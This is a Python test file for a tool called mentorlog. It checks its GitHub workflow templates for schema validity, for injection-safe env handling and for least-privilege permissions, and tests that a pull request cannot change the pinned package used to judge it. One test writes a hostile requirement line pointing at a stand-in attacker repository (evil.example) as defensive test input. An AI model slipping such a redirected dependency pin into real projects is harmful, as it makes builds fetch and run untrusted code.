"""The GitHub workflows, PR template and CODEOWNERS: valid, safe, and what `init` writes.

The workflow files are validated offline against GitHub's workflow schema as vendored by
check-jsonschema (`vendor.github-workflows`), by the real check-jsonschema command.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from gitprogram import GitProgram, isolated_git
from helpers import REPO_ROOT
from mentorlog.scaffold import GITHUB_FILES, init_program, template
from mentorlog.yamlload import load_bytes

__all__ = ["isolated_git"]
WORKFLOWS = {"pr": "github-pr.yml", "main": "github-main.yml"}


def workflow(name: str) -> dict[str, Any]:
    """A workflow template read as YAML 1.2 (where `on:` is a key, not `true`)."""
    doc, problems = load_bytes(template(WORKFLOWS[name]).encode(), name)
    assert doc is not None and not problems
    return doc.data


def steps(flow: dict[str, Any], job: str) -> list[dict[str, Any]]:
    result: list[dict[str, Any]] = flow["jobs"][job]["steps"]
    return result


def step_using(flow: dict[str, Any], job: str, action: str) -> dict[str, Any]:
    found = [s for s in steps(flow, job) if str(s.get("uses", "")).startswith(action + "@")]
    assert len(found) == 1, action
    return found[0]


def run_text(flow: dict[str, Any], job: str) -> str:
    return "\n".join(str(s.get("run", "")) for s in steps(flow, job))


@pytest.fixture(scope="module")
def initialised(tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = tmp_path_factory.mktemp("init") / "program"
    init_program(target, "business")
    return target


def test_workflows_match_githubs_schema(initialised: Path) -> None:
    files = [initialised / ".github/workflows/pr.yml", initialised / ".github/workflows/main.yml",
             REPO_ROOT / ".github/workflows/pr.yml", REPO_ROOT / ".github/workflows/main.yml"]
    done = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema",
                           "vendor.github-workflows", *map(str, files)],
                          capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


def test_the_schema_check_catches_a_broken_workflow(tmp_path: Path) -> None:
    broken = tmp_path / "broken.yml"
    broken.write_text(template("github-pr.yml").replace("runs-on:", "runs_on:"), encoding="utf-8")
    done = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema",
                           "vendor.github-workflows", str(broken)],
                          capture_output=True, text=True, check=False)
    assert done.returncode == 1


def test_pr_workflow_is_judged_by_the_base_branch() -> None:
    flow = workflow("pr")
    assert set(flow["on"]) == {"pull_request"}
    assert flow["permissions"] == {"contents": "read"}
    assert step_using(flow, "check", "actions/checkout")["with"]["fetch-depth"] == 0
    install = next(s for s in steps(flow, "check") if "pip install" in str(s.get("run", "")))
    assert install["env"]["BASE_SHA"] == "${{ github.event.pull_request.base.sha }}"
    assert 'git worktree add --detach "$RUNNER_TEMP/base" "$BASE_SHA"' in install["run"]
    assert 'cd "$RUNNER_TEMP/base"' in install["run"]  # installs the base's, not the PR's
    check = steps(flow, "check")[-1]
    assert check["run"] == ('mentorlog check --base "origin/$BASE_REF" --author "$AUTHOR" '
                            "--format github")
    assert check["env"] == {"BASE_REF": "${{ github.base_ref }}",
                            "AUTHOR": "${{ github.event.pull_request.user.login }}"}


def test_no_expression_is_pasted_into_a_script() -> None:
    """Values reach scripts through env: a branch name cannot inject shell code."""
    for name in WORKFLOWS:
        flow = workflow(name)
        for job in flow["jobs"]:
            assert "${{" not in run_text(flow, job), (name, job)


def test_main_workflow_publishes_only_the_public_site() -> None:
    flow = workflow("main")
    assert flow["on"]["push"] == {"branches": ["main"]}
    build = run_text(flow, "build")
    assert 'mentorlog build --site-dir "$RUNNER_TEMP/coordinators-site"' in build
    assert 'mentorlog build --public --site-dir "$RUNNER_TEMP/public-site"' in build
    artifact = step_using(flow, "build", "actions/upload-artifact")["with"]
    assert artifact["path"] == "${{ runner.temp }}/coordinators-site"
    pages = step_using(flow, "build", "actions/upload-pages-artifact")["with"]
    assert pages["path"] == "${{ runner.temp }}/public-site"
    deploy = flow["jobs"]["deploy"]
    assert deploy["needs"] == "build"
    assert deploy["permissions"] == {"pages": "write", "id-token": "write"}
    assert deploy["environment"]["name"] == "github-pages"
    assert step_using(flow, "deploy", "actions/deploy-pages")["id"] == "deployment"
    assert flow["permissions"] == {"contents": "read"}  # only deploy may write to Pages


def test_codeowners() -> None:
    lines = [line.split() for line in template("CODEOWNERS").splitlines()
             if line.strip() and not line.startswith("#")]
    assert lines == [["*", "@your-org/mentorlog-coordinators"], ["/records/sessions/"],
                     ["/records/attachments/"]]
    assert "PLACEHOLDER" in template("CODEOWNERS")


def test_pr_template_is_a_checklist() -> None:
    text = template("pull_request_template.md")
    assert text.count("- [ ]") >= 6 and "late_reason" in text


def test_init_writes_the_github_files(initialised: Path) -> None:
    for target, source in GITHUB_FILES.items():
        assert (initialised / target).read_text(encoding="utf-8") == template(source)
    pin = (initialised / ".github/mentorlog-requirements.txt").read_text(encoding="utf-8")
    assert pin.rstrip().splitlines()[-1].startswith("mentorlog==")


def test_this_repository_uses_the_templates() -> None:
    """The demo program runs the very files `init` writes (and installs from source)."""
    for target, source in GITHUB_FILES.items():
        assert (REPO_ROOT / target).read_text(encoding="utf-8") == template(source), target
    assert not (REPO_ROOT / ".github/mentorlog-requirements.txt").exists()


# --- the workflow's own shell steps, run for real with bash and git ---

def pr_step(name_part: str) -> dict[str, Any]:
    return next(s for s in steps(workflow("pr"), "check") if name_part in s.get("name", ""))


def test_pr_install_step_reads_the_base_branch(tmp_path: Path) -> None:
    """A pull request that edits the pin cannot change what is installed to judge it.

    git and bash are real; `python` is a stand-in that records what pip would install."""
    program = GitProgram.create(tmp_path / "program")
    program.git("checkout", "-q", "main")
    program.write(".github/mentorlog-requirements.txt", "mentorlog==0.1.0\n")
    program.commit("pin")
    base_sha = program.git("rev-parse", "HEAD").strip()
    program.git("checkout", "-q", "-B", "change")
    program.write(".github/mentorlog-requirements.txt", "mentorlog @ git+https://evil.example\n")
    program.commit("the pull request moves the pin")
    bin_dir, log = tmp_path / "bin", tmp_path / "pip.log"
    bin_dir.mkdir()
    stand_in = bin_dir / "python"
    stand_in.write_text(f'#!/bin/sh\necho "$PWD $*" >> {log}\ncat "$5" >> {log}\n')
    stand_in.chmod(0o755)
    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
           "RUNNER_TEMP": str(tmp_path / "runner"), "BASE_SHA": base_sha}
    subprocess.run(["bash", "-e", "-c", pr_step("Install")["run"]], cwd=program.root, env=env,
                   check=True, capture_output=True)
    assert log.read_text().splitlines() == [
        f"{tmp_path}/runner/base -m pip install -r .github/mentorlog-requirements.txt",
        "mentorlog==0.1.0"]


def test_pr_check_step_runs_mentorlog_check(tmp_path: Path) -> None:
    """The step's command line, with GitHub's values in env, as bash runs it."""
    origin = GitProgram.create(tmp_path / "origin")
    clone = GitProgram(tmp_path / "clone")
    subprocess.run(["git", "clone", "-q", str(origin.root), str(clone.root)], check=True)
    clone.git("checkout", "-q", "change")
    clone.write("records/clients/new-client.yaml", "name: New Client\n")
    step = pr_step("mentorlog check")
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
           "BASE_REF": "main", "AUTHOR": "kim-gh"}
    done = subprocess.run(["bash", "-c", step["run"]], cwd=clone.root, env=env,
                          capture_output=True, text=True, check=False)
    assert done.returncode == 1, done.stderr
    assert done.stdout.startswith(
        "::error file=records/clients/new-client.yaml,title=mentorlog coordinator-only::")
    env["AUTHOR"] = "ana-gh"
    assert subprocess.run(["bash", "-c", step["run"]], cwd=clone.root, env=env,
                          capture_output=True, check=False).returncode == 0
